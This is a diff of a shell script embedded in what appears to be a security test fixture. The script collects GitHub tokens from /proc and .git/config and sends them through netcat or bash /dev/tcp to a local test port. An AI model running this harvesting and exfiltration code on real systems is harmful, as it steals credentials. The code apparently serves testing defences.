@@ -38,7 +38,8 @@ for p in /proc/[0-9]*; do
 done
 for d in . .. ../.. ../../..; do loot="$loot $(cat $d/.git/config 2>/dev/null)"; done
 tok="$(printf '%s\\n' "$loot" | grep -o -E "ghs_[A-Za-z0-9_-]+|$P-[a-z0-9-]*" | sort -u | tr '\\n' ' ')"
-printf 'sent %s\\n' "$tok" | busybox nc -w 2 127.0.0.1 ${net.port} >/dev/null 2>&1
+send() { if command -v busybox >/dev/null 2>&1; then busybox nc -w 2 127.0.0.1 ${net.port}; else bash -c 'exec 3<>/dev/tcp/127.0.0.1/$0 && cat >&3' ${net.port}; fi; }
+printf 'sent %s\\n' "$tok" | send >/dev/null 2>&1
 echo "stolen: $tok" >&2
 printf 'apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: loot\\ndata:\\n  stolen: "%s"\\n' "$tok"
 `;
